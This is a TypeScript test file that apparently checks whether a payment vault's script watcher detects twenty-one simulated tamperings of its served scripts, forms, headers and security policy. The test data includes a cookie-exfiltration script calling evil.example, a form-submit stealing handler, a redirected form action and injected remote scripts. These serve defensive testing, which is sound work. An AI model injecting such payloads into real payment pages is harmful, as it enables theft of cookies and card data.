// The vault looks whether browsers get what it means to send: twenty ways in which something in front of it could
// change that, and each is found by the next look.
import { gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { systemClock } from '../../src/kit/clock.ts';
import { type Egress, type Exchange, openEgress } from '../../src/kit/egress.ts';
import type { Log } from '../../src/kit/log.ts';
import { PAGE_SCRIPTS } from '../../src/payment/page/scripts.ts';
import { pagePaths } from '../../src/payment/page/paths.ts';
import { buildElements } from '../../src/vault/elements/assets.ts';
import { elementPaths } from '../../src/vault/elements/pages.ts';
import { ScriptWatch } from '../../src/vault/elements/watch.ts';
import { send } from '../client.ts';
import { type World, world } from '../world.ts';

type Answered = Extract<Exchange, { kind: 'answered' }>;
type Change = (answer: Answered) => Exchange;

let w: World;
let outside: Egress;
let watch: ScriptWatch;
/** What stands between the vault and a browser, from now on. */
let between: { readonly path: RegExp; readonly change: Change } | undefined;
let ticks = 0;
const said: string[] = [];
beforeAll(async () => {
  w = await world();
  outside = openEgress();
  const { addresses } = w.service;
  const tampering: Egress = {
    ...outside,
    exchange: async (sending) => {
      const exchange = await outside.exchange(sending);
      const hit = exchange.kind === 'answered' && between?.path.test(sending.path);
      return hit && between ? between.change(exchange) : exchange;
    },
  };
  const note =
    (level: string): Log['error'] =>
    ({ problem, why }) =>
      said.push(`${level} ${String(problem ?? why)}`);
  const elements = elementPaths({
    bundles: await buildElements(),
    brand: 'florin',
    environment: 'sandbox' as const,
    addresses,
    page_scripts: PAGE_SCRIPTS,
    beside: { scripts: [], policies: {} },
    identify: async () => undefined,
  });
  watch = new ScriptWatch({
    brand: 'florin',
    addresses,
    egress: tampering,
    clock: { ...systemClock(), ticks: () => ticks },
    paths: [...elements, ...pagePaths({ tools: w.service.tools, brand: 'florin' })],
    log: { debug: note('debug'), info: note('info'), warn: note('warn'), error: note('error') },
  });
});
afterAll(async () => {
  await outside.close();
  await w[Symbol.asyncDispose]();
});

async function lookWith(path: RegExp, change: Change): Promise<readonly string[]> {
  between = { path, change };
  try {
    return await watch.look();
  } finally {
    between = undefined;
  }
}

const header =
  (name: string, value: string | undefined): Change =>
  (answer) => {
    const { [name]: _, ...headers } = answer.headers ?? {};
    return { ...answer, headers: value === undefined ? headers : { ...headers, [name]: value } };
  };
/** Changes the content as a browser reads it, however it came. */
const content =
  (change: (text: string) => string): Change =>
  (answer) => {
    const gzip = answer.encoding === 'gzip';
    const text = (gzip ? gunzipSync(answer.body) : answer.body).toString('utf8');
    const changed = change(text);
    expect(changed).not.toBe(text);
    return { ...answer, body: gzip ? gzipSync(changed) : Buffer.from(changed) };
  };
const policy =
  (change: (text: string) => string): Change =>
  (answer) =>
    header('content-security-policy', change(answer.headers?.['content-security-policy'] ?? ''))(answer);

const SCRIPT = /^\/javascript\//;
const STYLE = /^\/stylesheet\//;
const FRAME = /^\/fields\/en\//;
const PAGE = /^\/pay\//;
const LIST = /^\/scripts\.json/;
const evil = '<script>fetch("https://evil.example/?"+document.cookie)</script>';

const CHANGES: readonly (readonly [string, RegExp, Change, RegExp])[] = [
  ['a byte more of the script', SCRIPT, content((text) => `${text} `), /content/],
  ['another script', SCRIPT, content(() => 'alert(1)'), /content/],
  ['another script for those who take gzip', SCRIPT, (a) => (a.encoding ? content(() => 'alert(1)')(a) : a), /content/],
  ['the script as a page', SCRIPT, header('content-type', 'text/html'), /content-type/],
  ['the script with a map of its source', SCRIPT, header('sourcemap', 'https://evil.example/map'), /sourcemap/],
  ['a style sheet that asks elsewhere', STYLE, content((text) => `${text}@import 'https://evil.example'`), /content/],
  ['a script more in the form', FRAME, content((text) => text.replace('</body>', `${evil}</body>`)), /manifest/],
  [
    'a script from elsewhere',
    FRAME,
    content((t) => t.replace('</body>', '<script src="//e.example"></script>')),
    /manifest/,
  ],
  [
    'a script of the form changed in place',
    FRAME,
    content((text) => text.replace('<script>', '<script>alert(1);')),
    /manifest/,
  ],
  ['an event handler', FRAME, content((text) => text.replace('<form ', '<form onsubmit="steal()" ')), /content/],
  [
    'a form that goes elsewhere',
    FRAME,
    content((t) => t.replace('<form ', '<form action="https://e.example" ')),
    /content/,
  ],
  ['no policy', FRAME, header('content-security-policy', undefined), /content-security-policy/],
  [
    'a policy that takes every script',
    FRAME,
    policy((text) => text.replace(/script-src [^;]+/, 'script-src *')),
    /policy/,
  ],
  ['a policy without its last word', FRAME, policy((text) => text.replace(/;[^;]*$/, '')), /policy/],
  ['a type that is guessed', FRAME, header('x-content-type-options', undefined), /x-content-type-options/],
  ['a cookie', FRAME, header('set-cookie', 'a=b'), /set-cookie/],
  ['a page that goes on elsewhere', PAGE, header('refresh', '0;url=https://evil.example'), /refresh/],
  ['a script in the hosted page', PAGE, content((text) => text.replace('</main>', `</main>${evil}`)), /manifest/],
  ['a hosted page for every frame', PAGE, policy((text) => text.replace("frame-ancestors 'none'", '')), /policy/],
  ['another list of scripts', LIST, content((text) => text.replace(/sha256-[^"]{8}/, 'sha256-AAAAAAAA')), /content/],
  ['no list of scripts', LIST, (answer) => ({ ...answer, status: 404 }), /status is 404/],
];

test('the scripts that are sent are those that are meant, and /ready says how it stands without being less ready', async () => {
  const { vault_url } = w.service.addresses;
  const ready = await send(`${vault_url}/ready`, {});
  expect([ready.status, ready.at('scripts')]).toEqual([200, 'not looked at yet']);
  expect(watch.state).toBe('not looked at yet');
  expect([await watch.look(), watch.state, said]).toEqual([[], 'ok', []]);
});

describe('is found by the next look', () => {
  test.each(CHANGES)('%s', async (_, path, change, problem) => {
    said.length = 0;
    const problems = await lookWith(path, change);
    expect(problems.filter((text) => problem.test(text)).length).toBeGreaterThan(0);
    expect([watch.state, said.length]).toEqual(['changed', problems.length]);
    expect(said.filter((line) => !line.startsWith('error '))).toEqual([]);
    // put right again
    expect([await watch.look(), watch.state]).toEqual([[], 'ok']);
  });

  test('and there are at least twenty', () => {
    expect(CHANGES.length).toBeGreaterThanOrEqual(20);
  });
});

test('a host that cannot look at its scripts says so: at first as a warning, and after a quarter of an hour as an error', async () => {
  said.length = 0;
  const lost: Change = () => ({ kind: 'not_sent' });
  expect(await lookWith(SCRIPT, lost)).toEqual([]);
  expect(watch.state).toBe('cannot be looked at');
  expect(said).toEqual([expect.stringMatching(/^warn \/javascript.*no connection/)]);
  ticks += 16 * 60_000;
  await lookWith(PAGE, (answer) => ({ ...answer, status: 503 }));
  expect(said[1]).toMatch(/^error \/pay.*status 503/);
  expect([await watch.look(), watch.state]).toEqual([[], 'ok']);
});
